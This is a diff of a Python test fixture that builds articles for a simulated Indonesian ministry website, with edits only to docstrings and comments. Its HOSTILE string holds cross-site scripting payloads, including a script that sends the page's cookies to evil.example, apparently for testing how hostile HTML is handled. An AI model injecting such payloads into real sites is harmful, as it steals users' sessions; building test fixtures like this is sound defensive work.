@@ -1,4 +1,4 @@
-"""The articles of the simulated ministry site."""
+"""Articles of the simulated ministry site."""
 
 from __future__ import annotations
 
@@ -9,11 +9,11 @@ from html import unescape
 
 @dataclass(frozen=True)
 class Article:
-    """One article; with a `number` its address is the dated one, without it the plain slug."""
+    """One article. With a `number` its address has the date, otherwise only the slug."""
 
     slug: str
     title: str
-    text: str  # HTML as the editors left it
+    text: str  # HTML as the editors wrote it
     day: str = "20260215"
     number: int | None = None
     rubric: str = "rilis-berita"
@@ -30,7 +30,7 @@ class Article:
 
     @property
     def published(self) -> str:
-        """RFC 3339, in the site's own zone (WIB)."""
+        """Return the date and time in RFC 3339, in the site's time zone (WIB)."""
         return f"{self.day[:4]}-{self.day[4:6]}-{self.day[6:]}T09:30:00+07:00"
 
     @property
@@ -59,7 +59,7 @@ Suhu ruang penyimpanan obat di bawah 30 °C – “jangan” di dekat jendela.</
 """
 
 
-#: What a broken-into or careless site could serve inside an article.
+#: HTML that a hacked or careless site could serve inside an article.
 HOSTILE = """
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <img src="x" onerror="alert(1)"><svg/onload=alert(2)><svg><script>alert(3)</script></svg>
@@ -78,7 +78,7 @@ HOSTILE = """
 
 
 def articles() -> list[Article]:
-    """Both shapes of addresses, Indonesian titles with all that titles may hold."""
+    """Return articles with both kinds of addresses, and with special characters in their titles."""
     return [
         Article("mengenal-diabetes-sejak-dini", "Mengenal Diabetes Sejak Dini", _prose("Diabetes"), number=5120),
         Article("tips-menjaga-tekanan-darah", "Tekanan Darah: 120/80 & Seterusnya", _prose("Hipertensi")),
